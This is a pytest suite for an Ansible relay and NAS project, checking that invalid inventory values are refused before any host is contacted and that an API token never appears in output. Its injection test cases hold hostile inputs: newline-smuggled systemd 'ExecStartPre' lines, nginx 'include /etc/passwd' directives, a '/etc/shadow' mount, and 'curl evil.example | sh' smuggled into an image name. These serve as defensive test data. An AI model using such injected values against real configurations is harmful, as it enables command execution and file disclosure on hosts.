"""Bad relay input fails the whole run on the controller, before any host is touched.

The inventory's hosts point at a refused port on loopback: if any play tried to reach
them, the run would report them UNREACHABLE. Each case asserts the message names the
entry and the field, and that no host was contacted.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

REPO = Path(__file__).resolve().parents[2]


def run_site(
    tmp_path: Path, relays_by_host: dict[str, Any], extra: dict[str, Any] | None = None
) -> subprocess.CompletedProcess:
    hosts = {
        name: {"ansible_host": "127.0.0.1", "ansible_port": 1, "ansible_connection": "ssh", "port_relays": relays}
        for name, relays in relays_by_host.items()
    }
    for host in hosts.values():
        host.update(extra or {})
    inventory = tmp_path / "hosts.yml"
    inventory.write_text(yaml.safe_dump({"all": {"children": {"relays": {"hosts": hosts}}}}))
    env = dict(os.environ, ANSIBLE_FORCE_COLOR="0", ANSIBLE_NOCOLOR="1")
    bin_dir = Path(sys.executable).parent
    return subprocess.run(
        [str(bin_dir / "ansible-playbook"), "-i", str(inventory), "site.yml"],
        cwd=REPO,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )


GOOD = ["50443;443;example.com;TCP"]

CASES = [
    pytest.param(
        ["70000;25;example.com;TCP"],
        ["port_relays[0]", "'70000;25;example.com;TCP'", "listen_port must be a port number 1..65535, got 70000"],
        id="port-out-of-range",
    ),
    pytest.param(
        [{"name": "web", "listen_port": 8080, "target_host": "example.com", "target_port": 0}],
        ["port_relays[0] (name 'web')", "target_port must be a port number 1..65535, got 0"],
        id="target-port-zero",
    ),
    pytest.param(
        ["50025;25;example.com;SCTP"],
        ["port_relays[0]", "protocol must be tcp or udp, got 'SCTP'"],
        id="unknown-protocol",
    ),
    pytest.param(
        ["50025;25;TCP"],
        ["port_relays[0] ('50025;25;TCP')", "must have 4 fields 'in_port;out_port;out_host;TCP|UDP', got 3"],
        id="malformed-seed-line",
    ),
    pytest.param(
        [
            "50025;25;a.example.com;TCP",
            {"name": "b", "listen_port": 50025, "target_host": "b.example.com", "target_port": 25},
        ],
        ["port_relays[1] (name 'b')", "listen_port 50025/tcp is already used by port_relays[0]"],
        id="same-port-and-protocol",
    ),
    pytest.param(
        [{"name": "nowhere", "listen_port": 8080, "target_port": 80}],
        ["port_relays[0] (name 'nowhere')", "target_host is missing"],
        id="missing-target",
    ),
]


def assert_untouched(result: subprocess.CompletedProcess) -> None:
    output = result.stdout + result.stderr
    assert result.returncode != 0, output
    assert "UNREACHABLE" not in output, output
    assert "Gathering Facts" not in output, output


def assert_refused(result: subprocess.CompletedProcess, expected: list[str], secret: str | None = None) -> None:
    """The run stopped before any host, saying each expected part (the YAML callback may fold a long message
    over lines), without Ansible's internal type names, and without the secret."""
    assert_untouched(result)
    output = result.stdout + result.stderr
    flowing = " ".join(output.split())
    for part in expected:
        assert part in output or part in flowing, f"{part!r} missing from:\n{output}"
    assert "_AnsibleTagged" not in output, output
    if secret:
        assert secret not in output, output


@pytest.mark.parametrize(("relays", "expected"), CASES)
def test_bad_relay_fails_before_any_host_is_touched(tmp_path: Path, relays: list[Any], expected: list[str]) -> None:
    result = run_site(tmp_path, {"relay-bad": relays, "relay-good": GOOD})
    assert_untouched(result)
    output = result.stdout + result.stderr
    for part in expected:
        assert part in output, f"{part!r} missing from:\n{output}"


def test_bad_option_type_fails_before_any_host_is_touched(tmp_path: Path) -> None:
    result = run_site(tmp_path, {"relay-bad": GOOD}, extra={"port_relay_connect_timeout": "soon"})
    assert_untouched(result)
    output = result.stdout + result.stderr
    assert "port_relay_connect_timeout" in output and "int" in output, output


# Values of the right type that socat, the kernel or systemd would refuse (or be injected by) on the
# host, mid-run: each fails here, named by its inventory variable.
OPTION_VALUE_CASES = [
    ({"port_relay_keepalive_idle": 0}, ["port_relay_keepalive_idle must be 1 to 32767 seconds, got 0"]),
    ({"port_relay_connect_timeout": -1}, ["port_relay_connect_timeout must be 1 to 3600 seconds, got -1"]),
    ({"port_relay_keepalive_count": 1000}, ["port_relay_keepalive_count must be 1 to 127 probes, got 1000"]),
    ({"port_relay_max_connections": -5}, ["port_relay_max_connections must be 0 to 1000000"]),
    ({"port_relay_health_check_interval": 1}, ["port_relay_health_check_interval must be 10 to 86400 seconds"]),
    ({"port_relay_firewall_ssh_port": 70000}, ["port_relay_firewall_ssh_port must be 1 to 65535"]),
    # A newline would add a line (ExecStartPre=...) to every relay unit; % is a systemd specifier.
    ({"port_relay_log_file": "/var/log/r.log\nExecStartPre=/bin/id"}, ["port_relay_log_file must be an absolute path"]),
    ({"port_relay_log_file": "/var/log/%n.log"}, ["port_relay_log_file must be an absolute path"]),
    ({"port_relay_log_file": "/var/log/$HOME"}, ["port_relay_log_file must be an absolute path"]),
    ({"port_relay_log_file": "/var/log/a;b"}, ["port_relay_log_file must be an absolute path"]),
    ({"port_relay_log_file": '/var/log/a"b'}, ["port_relay_log_file must be an absolute path"]),
    ({"port_relay_log_file": "/var/log/a}b"}, ["port_relay_log_file must be an absolute path"]),
    ({"port_relay_log_file": "/var/log/../../etc/passwd"}, ["port_relay_log_file must be an absolute path"]),
    ({"port_relay_log_file": "relay.log"}, ["port_relay_log_file must be an absolute path"]),
    # Two at once: both named.
    (
        {"port_relay_keepalive_interval": 0, "port_relay_backlog": 0},
        ["port_relay_keepalive_interval must be 1 to 32767", "port_relay_backlog must be 1 to 65535"],
    ),
]


@pytest.mark.parametrize(("extra", "expected"), OPTION_VALUE_CASES)
def test_bad_option_value_fails_before_any_host_is_touched(
    tmp_path: Path, extra: dict[str, Any], expected: list[str]
) -> None:
    result = run_site(tmp_path, {"relay-bad": GOOD}, extra=extra)
    assert_untouched(result)
    output = result.stdout + result.stderr
    for part in expected:
        assert part in output, f"{part!r} missing from:\n{output}"
    assert "_AnsibleTagged" not in output, output


def test_good_input_does_try_the_hosts(tmp_path: Path) -> None:
    """The control case: with valid input the run goes on and reaches for the (refusing) hosts."""
    result = run_site(tmp_path, {"relay-good": GOOD})
    assert result.returncode != 0
    assert "UNREACHABLE" in result.stdout + result.stderr


def test_the_example_site_validates() -> None:
    """The inventory a user copies passes validation (hosts forced to a refused loopback port)."""
    result = subprocess.run(
        [
            str(Path(sys.executable).parent / "ansible-playbook"),
            "-i",
            "inventories/example/hosts.yml",
            "playbooks/validate.yml",
            # The secrets a user puts in the vault, as the example spells them.
            "-e",
            "@inventories/example/group_vars/all/vault.yml.example",
            "-e",
            "ansible_host=127.0.0.1",
            "-e",
            "ansible_port=1",
        ],
        cwd=REPO,
        env=dict(os.environ, ANSIBLE_NOCOLOR="1"),
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    output = result.stdout + result.stderr
    assert result.returncode == 0, output
    assert "UNREACHABLE" not in output


def run_site_edge(tmp_path: Path, host_vars: dict[str, Any], playbook: str = "site.yml") -> subprocess.CompletedProcess:
    """site.yml (or another playbook) with one VPS host (refused loopback port) carrying these variables."""
    host = {"ansible_host": "127.0.0.1", "ansible_port": 1, "ansible_connection": "ssh", **host_vars}
    inventory = tmp_path / "hosts.yml"
    inventory.write_text(yaml.safe_dump({"all": {"children": {"vps": {"hosts": {"vps-bad": host}}}}}))
    return subprocess.run(
        [str(Path(sys.executable).parent / "ansible-playbook"), "-i", str(inventory), playbook],
        cwd=REPO,
        env=dict(os.environ, ANSIBLE_FORCE_COLOR="0", ANSIBLE_NOCOLOR="1"),
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )


EDGE_CASES = [
    pytest.param(
        {"certbot_certificates": [{"name": "www", "domains": ["*.example.com"]}]},
        ["certbot_certificates[0] (name 'www')", "*.example.com is a wildcard, which only challenge dns-01 can prove"],
        id="wildcard-over-http-01",
    ),
    pytest.param(
        {"certbot_certificates": [{"name": "nas", "domains": ["nas.example.com"], "challenge": "dns-01"}]},
        ["certbot_certificates[0] (name 'nas')", "challenge dns-01 needs certbot_cloudflare_api_token"],
        id="dns-01-without-token",
    ),
    pytest.param(
        {"certbot_certificates": [{"name": "www", "domains": ["bad_host name"]}]},
        ["certbot_certificates[0] (name 'www')", "is not a valid DNS name"],
        id="domain-not-a-dns-name",
    ),
    pytest.param(
        {"certbot_key_type": "dsa"},
        ["certbot_key_type", "ecdsa", "rsa"],
        id="key-type-not-a-choice",
    ),
    pytest.param(
        {"nginx_stack_https_port": "https"},
        ["nginx_stack_https_port", "int"],
        id="https-port-not-a-number",
    ),
]


@pytest.mark.parametrize(("host_vars", "expected"), EDGE_CASES)
def test_bad_edge_input_fails_before_any_host_is_touched(
    tmp_path: Path, host_vars: dict[str, Any], expected: list[str]
) -> None:
    assert_refused(run_site_edge(tmp_path, host_vars), expected)


def test_good_edge_input_passes_validation(tmp_path: Path) -> None:
    """The control case: valid certificates pass validate.yml (validate.yml alone: site.yml goes on to the VPS)."""
    result = run_site_edge(
        tmp_path,
        {
            "certbot_certificates": [
                {"name": "www", "domains": ["www.example.com"]},
                {"name": "lan", "domains": ["*.lan.example.com"], "challenge": "dns-01"},
            ],
            "certbot_cloudflare_api_token": "token-for-a-test",
        },
        playbook="playbooks/validate.yml",
    )
    output = result.stdout + result.stderr
    assert "Validate certbot_certificates" in output, output
    assert "token-for-a-test" not in output, output
    assert "FAILED" not in output, output


# --- Relay46 (relay46_* variables of the vps and nas groups) ------------------------------------------------

RELAY46_TOKEN = "cf-bad-input-token-0123456789"
RELAY46_SERVICES = [
    {"name": "web-panel", "domain": "panel.example.com", "backend_port": 5666, "websocket": True},
    {"name": "router", "domain": "router.example.com", "backend_port": 8082, "local_backend": "192.168.0.2:80"},
]
RELAY46_TCP = [{"name": "ssh", "listen_port": 2222, "backend_port": 22}]


def relay46(services: Any = None, tcp: Any = None, cloudflare: Any = None, **more: Any) -> dict[str, Any]:
    """A good Relay46 site's variables, with the given parts replaced."""
    return {
        "relay46_services": RELAY46_SERVICES if services is None else services,
        "relay46_tcp_services": RELAY46_TCP if tcp is None else tcp,
        "relay46_https_port": 8444,
        "relay46_cloudflare": cloudflare or {"enabled": False},
        **more,
    }


RELAY46_CASES = [
    pytest.param(
        relay46(services=[*RELAY46_SERVICES, {"name": "panel2", "domain": "panel.example.com", "backend_port": 5667}]),
        [
            "relay46_services[2] (name 'panel2'): domain panel.example.com is already used by relay46_services[0] "
            "(name 'web-panel')"
        ],
        id="two-services-on-one-domain",
    ),
    pytest.param(
        relay46(tcp=[*RELAY46_TCP, {"name": "db", "listen_port": 2222, "backend_port": 3306}]),
        [
            "relay46_tcp_services[1] (name 'db'): listen_port 2222 is already used by "
            "relay46_tcp_services[0] (name 'ssh')"
        ],
        id="tcp-listen-port-clash",
    ),
    pytest.param(
        relay46(tcp=[*RELAY46_TCP, {"name": "web", "listen_port": 8444, "backend_port": 8080}]),
        ["relay46_tcp_services[1] (name 'web'): listen_port 8444 is already used by relay46_https_port"],
        id="tcp-listen-port-on-the-https-port",
    ),
    pytest.param(
        relay46(services=[{"name": "web-panel", "domain": "panel.example.com", "backend_port": 70000}]),
        ["relay46_services[0] (name 'web-panel'): backend_port must be a port number 1..65535, got 70000"],
        id="port-out-of-range",
    ),
    pytest.param(
        relay46(relay46_https_port=0),
        ["relay46_https_port must be a port number 1..65535, got 0"],
        id="https-port-out-of-range",
    ),
    pytest.param(
        relay46(services=[{"name": "router", "domain": "r.example.com", "backend_port": 8082, "local_backend": "lan"}]),
        ["relay46_services[0] (name 'router'): local_backend must be host:port"],
        id="local-backend-not-host-port",
    ),
    pytest.param(
        relay46(cloudflare={"enabled": True, "zone_id": "0123456789abcdef0123456789abcdef"}),
        ["relay46_cloudflare: enabled is true but api_token is missing or empty"],
        id="cloudflare-without-token",
    ),
    pytest.param(
        relay46(cloudflare={"enabled": True, "api_token": RELAY46_TOKEN}),
        ["relay46_cloudflare: enabled is true but zone_id is missing or empty"],
        id="cloudflare-without-zone-id",
    ),
    pytest.param(
        relay46(services=[{"name": "web", "domain": "www.example.com", "backend_port": 80, "websockets": True}]),
        ["relay46_services[0] (name 'web'): unknown field 'websockets'"],
        id="unknown-field",
    ),
]


# Issue 13, item 6: single values that reach nginx.conf, unit files, the timer, iptables rules and
# the programs' configuration: refused before any host is touched, naming the variable.
RENDERED_VALUE_CASES = [
    pytest.param(
        relay46(relay46_vps_resolver="198.18.0.53;\n    include /etc/passwd"),
        ["relay46_vps_resolver must be DNS server addresses separated by spaces"],
        id="resolver-injects-a-directive",
    ),
    pytest.param(
        relay46(relay46_vps_resolver="198.18.0.53 valid=1s"),
        ["relay46_vps_resolver must be DNS server addresses"],
        id="resolver-with-a-parameter",
    ),
    pytest.param(
        relay46(relay46_vps_ipv4="vps.example.com"),
        ["relay46_vps_ipv4 must be an IPv4 address"],
        id="vps-ipv4-a-name",
    ),
    pytest.param(
        relay46(relay46_vps_ipv6="fd00::40}"),
        ["relay46_vps_ipv6 must be an IPv6 address"],
        id="vps-ipv6-brace",
    ),
    pytest.param(
        relay46(relay46_nas_name="nas.example.com\n"),
        ["relay46_nas_name must be a DNS name"],
        id="nas-name-trailing-newline",
    ),
    pytest.param(
        relay46(relay46_nas_relay_allow=["192.168.0.0/24", "0/0 -j ACCEPT"]),
        ["relay46_nas_relay_allow[1] must be an IP address or network"],
        id="relay-allow-rule-text",
    ),
    pytest.param(
        relay46(relay46_cloudflare_api_url="https://api.example.com/v4\nCLOUDFLARE_API_TOKEN=x"),
        ["relay46_cloudflare_api_url must be an http:// or https:// URL"],
        id="api-url-adds-an-env-line",
    ),
    pytest.param(
        relay46(certbot_renew_on_calendar="daily\n[Service]\nExecStart=/bin/id"),
        ["certbot_renew_on_calendar must be a systemd calendar event"],
        id="timer-calendar-adds-a-section",
    ),
    pytest.param(
        relay46(certbot_renew_randomized_delay="1h$x"),
        ["certbot_renew_randomized_delay must be a systemd time span"],
        id="timer-delay-dollar",
    ),
    pytest.param(
        relay46(nginx_stack_resolver_valid="10s; include /etc/passwd"),
        ["nginx_stack_resolver_valid must be an nginx time"],
        id="resolver-valid-semicolon",
    ),
    pytest.param(
        relay46(docker_engine_http_proxy='http://proxy:3128"\nExecStartPre=/bin/id'),
        ["docker_engine_http_proxy must be an http:// proxy URL"],
        id="proxy-adds-a-unit-line",
    ),
    pytest.param(
        relay46(docker_engine_http_proxy="http://user:50%off@proxy:3128"),
        ["docker_engine_http_proxy must be an http:// proxy URL"],
        id="proxy-percent-specifier",
    ),
    pytest.param(
        relay46(certbot_image="certbot/certbot; curl evil.example | sh"),
        ["certbot_image must be a Docker image reference"],
        id="image-into-the-wrapper-script",
    ),
    pytest.param(
        relay46(nginx_stack_certs_dir="/opt/certs:/etc/shadow"),
        ["nginx_stack_certs_dir must be an absolute path"],
        id="certs-dir-adds-a-mount",
    ),
    pytest.param(
        relay46(docker_engine_no_proxy="localhost;x"),
        ["docker_engine_no_proxy must be host names, addresses and networks separated by commas"],
        id="no-proxy-semicolon",
    ),
]


@pytest.mark.parametrize(("host_vars", "expected"), RENDERED_VALUE_CASES)
def test_bad_rendered_value_fails_before_any_host_is_touched(
    tmp_path: Path, host_vars: dict[str, Any], expected: list[str]
) -> None:
    assert_refused(run_site_edge(tmp_path, host_vars), expected)


@pytest.mark.parametrize(("host_vars", "expected"), RELAY46_CASES)
def test_bad_relay46_input_fails_before_any_host_is_touched(
    tmp_path: Path, host_vars: dict[str, Any], expected: list[str]
) -> None:
    assert_refused(run_site_edge(tmp_path, host_vars), expected, secret=RELAY46_TOKEN)


def test_good_relay46_input_passes_validation(tmp_path: Path) -> None:
    """The control case: the seed's services, Cloudflare enabled, pass validate.yml without showing the token
    (validate.yml alone: site.yml goes on to the hosts' plays)."""
    cloudflare = {"enabled": True, "api_token": RELAY46_TOKEN, "zone_id": "0123456789abcdef0123456789abcdef"}
    result = run_site_edge(tmp_path, relay46(cloudflare=cloudflare), playbook="playbooks/validate.yml")
    output = result.stdout + result.stderr
    assert result.returncode == 0, output
    assert "Validate the Relay46 services" in output, output
    assert RELAY46_TOKEN not in output, output
    assert "UNREACHABLE" not in output, output


# --- Issue 14, item 1: the shapes in argument_specs, validated once in playbooks/validate.yml ---------------------

ZONE_ID = "0123456789abcdef0123456789abcdef"
CLOUDFLARE_ON = {"enabled": True, "api_token": RELAY46_TOKEN, "zone_id": ZONE_ID}


def run_edge_site(
    tmp_path: Path,
    vps_vars: dict[str, Any],
    nas_vars: dict[str, Any] | None = None,
    playbook: str = "site.yml",
    *options: str,
) -> subprocess.CompletedProcess:
    """A VPS and (with nas_vars) a NAS, both on a refused loopback port, through playbook (with options, as -v)."""
    groups: dict[str, Any] = {}
    for group, host_vars in (("vps", vps_vars), ("nas", nas_vars)):
        if host_vars is not None:
            host = {"ansible_host": "127.0.0.1", "ansible_port": 1, "ansible_connection": "ssh", **host_vars}
            groups[group] = {"hosts": {f"{group}-bad": host}}
    inventory = tmp_path / "hosts.yml"
    inventory.write_text(yaml.safe_dump({"all": {"children": groups}}))
    return subprocess.run(
        [str(Path(sys.executable).parent / "ansible-playbook"), "-i", str(inventory), playbook, *options],
        cwd=REPO,
        env=dict(os.environ, ANSIBLE_FORCE_COLOR="0", ANSIBLE_NOCOLOR="1"),
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )


def nas_site(**more: Any) -> dict[str, Any]:
    """A good NAS with Cloudflare (so with its DDNS job), with the given variables added."""
    return relay46(cloudflare=dict(CLOUDFLARE_ON), relay46_nas_name="nas.example.com", **more)


NESTED_FIELD_CASES = [
    pytest.param(
        relay46(services=[{"name": "web", "domain": "www.example.com", "backend_port": 80, "websocket": "maybe"}]),
        ["relay46_services[0] (name 'web'): websocket must be true or false, got 'maybe'"],
        id="websocket-maybe",
    ),
    pytest.param(
        relay46(
            services=[{"name": "web", "domain": "www.example.com", "backend_port": 80, "timeout": {"read": "soon"}}]
        ),
        ["relay46_services[0] (name 'web'): timeout.read must be 1 to 86400 seconds, got soon"],
        id="timeout-not-a-number",
    ),
    pytest.param(
        relay46(tcp=["ssh:2222"]),
        ["relay46_tcp_services[0] must be a mapping"],
        id="tcp-service-not-a-mapping",
    ),
    pytest.param(
        relay46(cloudflare={**CLOUDFLARE_ON, "zone_id": "not-a-zone"}),
        ["relay46_cloudflare: zone_id must be 32 hexadecimal digits (a Cloudflare zone id), got 'not-a-zone'"],
        id="cloudflare-zone-id",
    ),
    pytest.param(
        relay46(cloudflare={**CLOUDFLARE_ON, "proxied": "sometimes"}),
        ["relay46_cloudflare: proxied must be true or false"],
        id="cloudflare-proxied",
    ),
]


@pytest.mark.parametrize(("host_vars", "expected"), NESTED_FIELD_CASES)
def test_bad_nested_field_is_refused_by_validate(
    tmp_path: Path, host_vars: dict[str, Any], expected: list[str]
) -> None:
    assert_refused(run_edge_site(tmp_path, host_vars), expected, secret=RELAY46_TOKEN)


def test_a_shape_only_the_argument_specs_know_is_refused_by_validate(tmp_path: Path) -> None:
    """relay46_ddns_allow_private is no field of the filter: the nas entry point's argument specs refuse it, in
    validate.yml, before any host is touched (not when the role starts on the NAS)."""
    result = run_edge_site(tmp_path, relay46(), nas_site(relay46_ddns_allow_private="maybe"))
    assert_refused(result, ["relay46_ddns_allow_private", "bool"], secret=RELAY46_TOKEN)
    assert "Validate the Relay46 settings against the role's argument specs" in result.stdout


CLOUDFLARE_FAILURES = [
    pytest.param({**CLOUDFLARE_ON, "zone_id": "zone"}, "zone_id must be 32 hexadecimal digits", id="zone-id"),
    # The token under a mistyped key: the field is named, its value never shown.
    pytest.param(
        {"enabled": True, "api_tokn": RELAY46_TOKEN, "zone_id": ZONE_ID}, "unknown field 'api_tokn'", id="mistyped-key"
    ),
    pytest.param({**CLOUDFLARE_ON, "enabled": "yes"}, "enabled must be true or false", id="enabled-yes"),
    pytest.param(
        {**CLOUDFLARE_ON, "api_token": 987654321987}, "api_token must be a string (its value is not shown)", id="number"
    ),
]


@pytest.mark.parametrize("playbook", ["playbooks/validate.yml", "playbooks/dns.yml"])
@pytest.mark.parametrize(("cloudflare", "expected"), CLOUDFLARE_FAILURES)
def test_the_token_never_shows_when_the_cloudflare_mapping_fails(
    tmp_path: Path, playbook: str, cloudflare: dict[str, Any], expected: str
) -> None:
    secret = str(cloudflare.get("api_token", cloudflare.get("api_tokn")))
    result = run_edge_site(tmp_path, relay46(cloudflare=cloudflare), None, playbook, "-v")
    assert_refused(result, [f"relay46_cloudflare: {expected}"], secret=secret)


def test_the_token_never_shows_in_a_verbose_run_of_good_settings(tmp_path: Path) -> None:
    """-v shows relay46_site (the normalized settings, without the token) and dns.yml uses it: the token is in
    neither output (dns.yml's API is a refused port here)."""
    site = relay46(cloudflare=dict(CLOUDFLARE_ON), relay46_cloudflare_api_url="http://127.0.0.1:9/client/v4")
    validated = run_edge_site(tmp_path, site, nas_site(), "playbooks/validate.yml", "-v")
    output = validated.stdout + validated.stderr
    assert validated.returncode == 0, output
    assert "relay46_site:" in output and ZONE_ID in output, output
    assert RELAY46_TOKEN not in output, output
    published = run_edge_site(tmp_path, site, None, "playbooks/dns.yml", "-v")
    output = published.stdout + published.stderr
    assert "cannot reach the Cloudflare API at http://127.0.0.1:9" in output, output
    assert RELAY46_TOKEN not in output, output


def run_ddns_checks(tmp_path: Path, ddns_vars: dict[str, Any]) -> subprocess.CompletedProcess:
    """The ddns role's own checks (its tasks/validate.yml, with its defaults), as the role runs them first."""
    playbook = tmp_path / "ddns-checks.yml"
    playbook.write_text(
        yaml.safe_dump(
            [
                {
                    "name": "The ddns role's checks",
                    "hosts": "localhost",
                    "connection": "local",
                    "gather_facts": False,
                    "vars_files": [str(REPO / "roles/ddns/defaults/main.yml")],
                    "tasks": [{"ansible.builtin.include_tasks": str(REPO / "roles/ddns/tasks/validate.yml")}],
                }
            ]
        )
    )
    (tmp_path / "ddns-vars.json").write_text(json.dumps(ddns_vars))
    return subprocess.run(
        [str(Path(sys.executable).parent / "ansible-playbook"), str(playbook), "-e", f"@{tmp_path / 'ddns-vars.json'}"],
        cwd=REPO,
        env=dict(os.environ, ANSIBLE_FORCE_COLOR="0", ANSIBLE_NOCOLOR="1", ANSIBLE_LOCALHOST_WARNING="0"),
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )


DDNS_NAMES = ["panel.example.com", "router.example.com", "nas.example.com"]


@pytest.mark.parametrize(
    ("zone_id", "refused"),
    [
        pytest.param("0123456789abcdef0123456789abcdeg", True, id="a-g"),
        pytest.param("0123456789abcdef0123456789abcde", True, id="31-digits"),
        pytest.param("0123456789abcdef-0123456789abcdef", True, id="dash"),
        pytest.param(ZONE_ID.upper(), False, id="upper-case"),
        pytest.param(f" {ZONE_ID} ", False, id="spaces-around"),
    ],
)
def test_a_zone_id_validate_refuses_is_one_the_ddns_role_refuses(tmp_path: Path, zone_id: str, refused: bool) -> None:
    """One inventory, two readers: playbooks/validate.yml (for the NAS, whose DDNS job gets relay46_cloudflare's
    zone id) and the ddns role's own checks given the same zone id agree, with the same words."""
    validated = run_edge_site(
        tmp_path, relay46(), nas_site(relay46_cloudflare={**CLOUDFLARE_ON, "zone_id": zone_id}), "site.yml"
    )
    checked = run_ddns_checks(
        tmp_path, {"ddns_zone_id": zone_id, "ddns_api_token": RELAY46_TOKEN, "ddns_names": DDNS_NAMES}
    )
    checks_output = checked.stdout + checked.stderr
    if refused:
        expected = f"zone_id must be 32 hexadecimal digits (a Cloudflare zone id), got {zone_id!r}"
        assert_refused(validated, [f"relay46_cloudflare: {expected}"], secret=RELAY46_TOKEN)
        assert checked.returncode != 0 and "ddns_zone_id must be 32 hexadecimal digits" in checks_output, checks_output
        assert expected in " ".join(checks_output.split()), checks_output
    else:
        assert "UNREACHABLE" in validated.stdout + validated.stderr  # past validate.yml, on to the hosts
        assert checked.returncode == 0, checks_output


@pytest.mark.parametrize(
    ("ddns_vars", "expected"),
    [
        pytest.param({"ddns_ttl": 5}, "ddns_ttl must be 1 (automatic), 30..86400 or null (got '5')", id="ttl"),
        pytest.param(
            {"ddns_ttl": "soon"},
            "argument 'ddns_ttl' is of type str and we were unable to convert to int",
            id="ttl-type",
        ),
        pytest.param(
            {"ddns_schedule": "*/5 * * * * root id"}, "ddns_schedule must be a cron field of digits", id="schedule"
        ),
        pytest.param({"ddns_interface": "eth0;x"}, "ddns_interface must be an interface name", id="interface"),
    ],
)
def test_a_bad_ddns_option_is_refused_by_validate_as_the_ddns_role_refuses_it(
    tmp_path: Path, ddns_vars: dict[str, Any], expected: str
) -> None:
    """Before, these passed validate.yml and failed in the ddns role on the NAS, after its nginx and certificates."""
    assert_refused(run_edge_site(tmp_path, relay46(), nas_site(**ddns_vars)), [expected], secret=RELAY46_TOKEN)
    if "type str" not in expected:  # a type is the role's argument specs, checked as the role starts
        checked = run_ddns_checks(
            tmp_path, {"ddns_zone_id": ZONE_ID, "ddns_api_token": RELAY46_TOKEN, "ddns_names": DDNS_NAMES, **ddns_vars}
        )
        output = " ".join((checked.stdout + checked.stderr).split())
        assert checked.returncode != 0 and expected in output, output


def test_without_cloudflare_the_ddns_options_are_not_checked(tmp_path: Path) -> None:
    """No Cloudflare, no DDNS job (the ddns role removes it): its options do not matter, as before."""
    result = run_edge_site(tmp_path, relay46(), relay46(relay46_nas_name="nas.example.com", ddns_ttl=5))
    output = result.stdout + result.stderr
    assert "ddns_ttl" not in output, output
    assert "UNREACHABLE" in output, output
